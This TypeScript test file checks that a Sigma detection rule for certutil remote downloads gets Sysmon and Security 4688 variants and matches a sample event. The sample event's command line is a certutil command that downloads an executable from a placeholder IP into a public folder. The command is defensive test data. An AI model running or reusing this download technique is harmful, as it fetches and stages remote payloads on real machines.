/** Derived Sigma versions: a rule's rewrite for each Windows log source it maps to. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { openRuleLibrary } from '../src/rules/index.js';
import { eventFromObject, loadRules } from '../src/sigma/index.js';

test('a process_creation rule has its file, a Sysmon and a Security 4688 version, each loadable', async () => {
  const library = await openRuleLibrary({ dataDir: false, packs: [] });
  try {
    const name = 'proc_creation_win_certutil_remote_download';
    const variants = library.variants('sigma', name);
    assert.deepEqual(
      variants.map((v) => v.logsource ?? 'file'),
      ['file', 'sysmon', 'security'],
    );
    assert.deepEqual(variants[0]!.lines, library.get('sigma', [name]).results[name]);
    const security = variants.find((v) => v.logsource === 'security')!;
    const text = security.lines.join('\n');
    assert.match(text, /NewProcessName/);
    assert.match(text, /EventID: 4688/);
    const loaded = loadRules(text, 'security.yml');
    assert.deepEqual(loaded.diagnostics, []);
    const rule = loaded.rules[0]!;
    const event = {
      Channel: 'Security',
      EventID: 4688,
      NewProcessName: 'C:\\Windows\\System32\\certutil.exe',
      CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe',
    };
    assert.equal(rule.matches(eventFromObject(event)), true);
    assert.equal(rule.matches(eventFromObject({ ...event, Channel: 'System' })), false);
    assert.deepEqual(
      library.variants('yara', 'no_such_rule'),
      [],
      'YARA rules have no derived versions, and a missing name has none at all',
    );
  } finally {
    library.close();
  }
});
